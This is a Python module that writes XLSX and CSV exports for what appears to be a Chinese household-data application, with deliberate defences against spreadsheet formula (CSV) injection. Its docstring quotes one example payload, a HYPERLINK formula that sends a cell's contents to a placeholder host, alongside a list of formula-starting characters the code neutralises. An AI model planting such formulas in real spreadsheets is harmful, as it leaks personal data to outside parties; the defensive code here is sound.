"""Downloadable files: the one place workbooks and CSVs are made, so every cell of text stays text.

A name such as `=HYPERLINK("http://x/?"&E5,"查看")` or a masked `=***` must reach the county as the text it
is, never as a formula or a link: every workbook is opened with XLSX_OPTIONS, and a CSV cell a spreadsheet
would run (starting with = + - @ tab or CR) is prefixed with a single quote (OWASP, CSV injection).
"""

from __future__ import annotations

import datetime as dt
import io
import re
import unicodedata
from collections.abc import Callable

import numpy as np
import pandas as pd

from fupin.access import audit
from fupin.access.scope import Viewer
from fupin.core.labels import DEMO_NOTE

# xlsxwriter otherwise writes text starting with '=' as a formula and text like 'http://…' as a link.
XLSX_OPTIONS: dict[str, bool] = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_MIME = "text/csv"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
DEMO_LABEL = DEMO_NOTE  # 演示数据：全部为合成数据，不是真实数字
HEADER_ROW = 2  # 0-based row of a table's header under the title rows


SHEET_NAME_MAX = 31  # Excel's limit; []:*?/\\ are not allowed in a sheet name
# Number formats (Excel codes). Amounts keep their unit in the column label (万元, 元); dates as 2020年6月1日.
FORMATS: dict[str, str] = {
    "int": "#,##0",
    "num": "#,##0.00",
    "pct": "0.0%",
    "wan": "#,##0.00",
    "yuan": "#,##0",
    "permille": '0.00"‰"',
    "date": 'yyyy"年"m"月"d"日"',
    "datetime": "yyyy-mm-dd hh:mm:ss",
    "text": "@",
    "bool": "@",
}
SUMMED = ("int", "wan", "yuan")  # the kinds a totals row adds up (never shares, rates or codes)
TRUE_FALSE = {True: "是", False: "否"}
_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")
_DATETIME = re.compile(r"^\d{4}-\d{2}-\d{2}[ T]\d{2}:\d{2}(:\d{2})?(\.\d+)?$")
_SHARE_WORDS = ("率", "占比", "比例", "比重", "为上年同期", "进度要求", "（%）", "(%)")


def text_width(value: object) -> int:
    """Columns a value takes in a spreadsheet: a CJK (wide) character counts double."""
    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in str(value))


def column_kind(name: str, values: pd.Series) -> str:
    """What a column holds, from its dtype, its values and its label: 'bool' (是/否), 'date', 'datetime', 'pct'
    (a share 0–1 shown as %), 'permille', 'wan' (万元), 'yuan', 'int', 'num' or 'text'."""
    label = str(name)
    present = values.dropna()
    if pd.api.types.is_bool_dtype(values) or (
        len(present) and present.map(lambda x: isinstance(x, (bool, np.bool_))).all()
    ):
        return "bool"
    if pd.api.types.is_datetime64_any_dtype(values):
        times = present.dt.tz_localize(None) if getattr(present.dt, "tz", None) else present
        return "date" if (times == times.dt.normalize()).all() else "datetime"
    if pd.api.types.is_numeric_dtype(values):
        if "‰" in label:
            return "permille"
        if "万元" in label:
            return "wan"
        if any(w in label for w in _SHARE_WORDS) and (present.abs() <= 5).all():
            return "pct"
        if label.endswith(("元", "元）", "元)")):
            return "yuan"
        whole = pd.api.types.is_integer_dtype(values) or bool((present == present.round()).all())
        return "int" if whole else "num"
    if len(present) and present.map(lambda x: isinstance(x, dt.date)).all():
        return "date" if not present.map(lambda x: isinstance(x, dt.datetime)).any() else "datetime"
    if len(present) and present.map(lambda x: isinstance(x, str)).all():
        if present.map(lambda x: bool(_DATE.match(x))).all():
            return "date"
        if present.map(lambda x: bool(_DATETIME.match(x))).all():
            return "datetime"
    return "text"


def sheet_name(name: str) -> str:
    """A sheet name Excel accepts: the characters it forbids replaced, at most 31 characters."""
    return re.sub(r"[\[\]:*?/\\]", "－", str(name)).strip("'")[:SHEET_NAME_MAX] or "数据"


def _cell(value: object, kind: str) -> object:
    """A value as the cell holds it: None for missing, 是/否 for booleans, datetimes for date columns."""
    if value is None or (not isinstance(value, str) and pd.api.types.is_scalar(value) and pd.isna(value)):
        return None
    if isinstance(value, (bool, np.bool_)):  # in any column: a person reads 是/否, never TRUE/FALSE
        return TRUE_FALSE[bool(value)]
    if kind == "bool":
        return str(value)
    if kind in ("date", "datetime"):
        ts = pd.Timestamp(value)
        return ts.tz_localize(None).to_pydatetime() if ts.tzinfo else ts.to_pydatetime()
    if isinstance(value, np.generic):
        return value.item()
    return value


def _shown_width(value: object, kind: str) -> int:
    if value is None:
        return 0
    if kind == "date":
        return 16
    if kind == "datetime":
        return 20
    if kind in ("int", "yuan"):
        return len(f"{value:,.0f}")
    if kind in ("num", "wan", "permille"):
        return len(f"{value:,.2f}") + (1 if kind == "permille" else 0)
    if kind == "pct":
        return len(f"{value:.1%}")
    return max(text_width(line) for line in str(value).splitlines() or [""])


class Book:
    """One office-ready workbook (xlsxwriter, every string written as a string: XLSX_OPTIONS). Each `table` is
    a sheet: a title row, the 演示数据 row when synthetic, the header in row 3 (frozen, with filters), cells
    in number formats by what they hold, columns as wide as their content (CJK counts double), an optional
    合计 row under the filtered range, and print setup: A4 landscape, fit to width, the header row repeated
    on every page, page numbers in the footer."""

    def __init__(self) -> None:
        import xlsxwriter

        self.buf = io.BytesIO()
        self.wb = xlsxwriter.Workbook(self.buf, {"in_memory": True, **XLSX_OPTIONS})
        self._fmt: dict[tuple, object] = {}
        self.names: list[str] = []

    def fmt(self, **props: object) -> object:
        key = tuple(sorted(props.items()))
        if key not in self._fmt:
            self._fmt[key] = self.wb.add_format({"font_name": "宋体", "font_size": 10, "valign": "vcenter", **props})
        return self._fmt[key]

    def table(
        self,
        df: pd.DataFrame,
        name: str,
        *,
        title: str,
        synthetic: bool,
        kinds: dict[str, str] | None = None,
        totals: bool = False,
        freeze_columns: int = 0,
    ) -> object:
        """Write `df` on a new sheet `name`; `kinds` overrides what column_kind infers (column → kind)."""
        name = sheet_name(name)
        if name in self.names:
            name = sheet_name(f"{name[: SHEET_NAME_MAX - 3]}（{len(self.names) + 1}）")
        self.names.append(name)
        ws = self.wb.add_worksheet(name)
        cols = [str(c) for c in df.columns]
        kind = [(kinds or {}).get(c) or column_kind(c, df[col]) for c, col in zip(cols, df.columns, strict=True)]
        ws.write_string(0, 0, title, self.fmt(bold=True, font_size=14))
        ws.set_row(0, 24)
        if synthetic:
            ws.write_string(1, 0, DEMO_LABEL, self.fmt(font_color="#C00000", bold=True))
            ws.set_header(f"&C{DEMO_LABEL}")  # on every printed page
        head = self.fmt(bold=True, bg_color="#D9E1F2", border=1, text_wrap=True, align="center")
        ws.set_row(HEADER_ROW, 30)
        for j, c in enumerate(cols):
            ws.write_string(HEADER_ROW, j, c, head)
        widths = [text_width(c) + 2 for c in cols]  # room for the filter arrow
        formats = [self.fmt(num_format=FORMATS[k], border=1, text_wrap=k == "text") for k in kind]
        row = HEADER_ROW
        for values in df.itertuples(index=False, name=None):
            row += 1
            for j, (v, k) in enumerate(zip(values, kind, strict=True)):
                v = _cell(v, k)
                widths[j] = max(widths[j], _shown_width(v, k))
                if v is None:
                    ws.write_blank(row, j, None, formats[j])
                elif isinstance(v, str):
                    ws.write_string(row, j, v, formats[j])
                elif isinstance(v, dt.datetime):
                    ws.write_datetime(row, j, v, formats[j])
                elif isinstance(v, (int, float)):
                    ws.write_number(row, j, v, formats[j])
                else:
                    ws.write_string(row, j, str(v), formats[j])
        last = row
        if totals and len(df) and cols:
            row += 1
            bold = [self.fmt(num_format=FORMATS[k], border=1, bold=True, top=2) for k in kind]
            ws.write_string(row, 0, "合计", bold[0])
            for j, (col, k) in enumerate(zip(df.columns, kind, strict=True)):
                if j == 0:
                    continue
                if k in SUMMED:
                    total = pd.to_numeric(df[col], errors="coerce").sum()
                    ws.write_number(row, j, float(total), bold[j])  # a value, not a formula: no cell is a formula
                    widths[j] = max(widths[j], _shown_width(float(total), k))
                else:
                    ws.write_blank(row, j, None, bold[j])
        for j, w in enumerate(widths):
            ws.set_column(j, j, min(max(w + 2, 6), 60))
        ws.freeze_panes(HEADER_ROW + 1, freeze_columns)
        if cols:
            ws.autofilter(HEADER_ROW, 0, last, len(cols) - 1)
        # print: A4 landscape, as many pages down as needed but one page wide, header row on every page
        ws.set_paper(9)
        ws.set_landscape()
        ws.fit_to_pages(1, 0)
        ws.repeat_rows(HEADER_ROW)
        ws.set_margins(left=0.5, right=0.5, top=0.75, bottom=0.75)
        ws.set_footer("&C第 &P 页，共 &N 页")
        return ws

    def close(self) -> bytes:
        if not self.names:
            self.wb.add_worksheet("说明").write_string(0, 0, "没有数据")
        self.wb.close()
        return self.buf.getvalue()


def audited_file(
    build: Callable[[], tuple[bytes, int]], viewer: Viewer, action: str, *, filters: dict, unmasked: bool = False
) -> Callable[[], bytes]:
    """The `data` of st.download_button: a callable Streamlit runs when the button is clicked. It builds the
    file from what the page showed in that run (`build` returns the bytes and how many rows they hold) and
    writes the audit row then, so no file is kept between runs and only a download is an export."""

    def make() -> bytes:
        data, rows = build()
        audit.record(viewer, action, filters=filters, row_count=rows, unmasked=unmasked)
        return data

    return make


def households_xlsx(
    df: pd.DataFrame, *, title: str, synthetic: bool, sheet_name: str = "工作单", totals: bool = False
) -> bytes:
    """An XLSX of an already-masked table (a work order or list): title in row 1, the 演示数据 label in row 2 when
    synthetic, header in row 3, frozen, filters on, print-ready."""
    book = Book()
    book.table(df, sheet_name, title=title, synthetic=synthetic, totals=totals)
    return book.close()


def table_xlsx(df: pd.DataFrame, *, sheet_name: str, title: str, synthetic: bool, totals: bool = False) -> bytes:
    """A one-sheet XLSX of a table: title rows, header in row 3 (optionally a 合计 row)."""
    book = Book()
    book.table(df, sheet_name, title=title, synthetic=synthetic, totals=totals)
    return book.close()


def _defuse(value: object) -> object:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def safe_csv(df: pd.DataFrame, *, title: str | None = None, synthetic: bool = False) -> bytes:
    """CSV bytes (UTF-8 with BOM, so Excel reads Chinese) with text cells that a spreadsheet would run as a
    formula prefixed with '; numeric and boolean columns are written as they are (-3 stays a number).
    With a title, the title and (synthetic data) DEMO_LABEL come first, one line each, above the header."""
    out = df.copy()
    for col in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col])):
            out[col] = out[col].map(_defuse)
    above = [t for t in (title, DEMO_LABEL if synthetic else None) if t]
    head = pd.DataFrame({"t": [_defuse(t) for t in above]}).to_csv(index=False, header=False, lineterminator="\r\n")
    # CRLF line ends (as Excel writes them): a CR inside a cell is then quoted, never read as a row end
    return ((head if above else "") + out.to_csv(index=False, lineterminator="\r\n")).encode("utf-8-sig")
